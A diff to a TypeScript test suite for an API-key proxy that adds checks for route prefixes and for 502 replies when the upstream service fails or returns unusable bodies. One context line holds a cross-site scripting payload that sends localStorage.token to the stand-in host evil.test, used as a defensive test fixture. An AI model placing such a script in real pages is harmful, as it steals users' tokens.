@@ -6,6 +6,7 @@ const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>
 
 const contents = async (answer: Response): Promise<[number, string]> => [answer.status, await answer.text()];
 const isJson = { "content-type": "application/json" };
+const unanswered = [502, '{"message":"The service did not answer"}'];
 const throwing = () => {
   throw new TypeError(`cannot connect with ${apiKey}`);
 };
@@ -53,6 +54,14 @@ describe("createKeyProxy", () => {
     expect(calls).to.deep.equal([]);
   });
 
+  it("has its own routes under its own prefix", async () => {
+    const { statusOf } = stage(undefined, { prefix: "/api/relay", routes: ["GET /requests/v3"] });
+    expect(await statusOf("/api/relay/requests/v3?limit=1")).to.equal(200);
+    for (const path of ["/requests/v3", "/api/relayx/requests/v3", "/api/relay/chains"]) {
+      expect(await statusOf(path), path).to.equal(404);
+    }
+  });
+
   it("answers 413 to a body beyond its limit", async () => {
     const { statusOf } = stage(undefined, { maxBodyBytes: 10 });
     expect(await statusOf("/price", { body: '{"ttl":100}', method: "POST" })).to.equal(413);
@@ -70,6 +79,10 @@ describe("createKeyProxy", () => {
   it("answers 502 to a redirect of the service", async () => {
     const moved = () => new Response(null, { headers: { location: "http://evil.test" }, status: 302 });
     expect(await stage(moved).statusOf("/chains")).to.equal(502);
+  });
+
+  it("answers 502 without the reason when the service cannot be reached", async () => {
+    expect(await contents(await stage(throwing).call("/chains"))).to.deep.equal(unanswered);
   });
 
   describe("given a check", () => {
@@ -253,6 +266,16 @@ describe("createKeyProxy", () => {
     it("Q16: answers 504 to an answer's body that takes longer than the call may", async () => {
       const slow = stage(() => new Response(stalled(), { headers: isJson }), { timeout: 20 });
       expect(await slow.statusOf("/chains")).to.equal(504);
+    });
+
+    it("Q16: answers 502 to an answer's body that breaks or is locked", async () => {
+      for (const answer of [
+        new Response(broken(), { headers: isJson }),
+        lock(Response.json({})),
+        {} as Response,
+      ]) {
+        expect(await contents(await stage(() => answer).call("/chains"))).to.deep.equal(unanswered);
+      }
     });
   });
 });
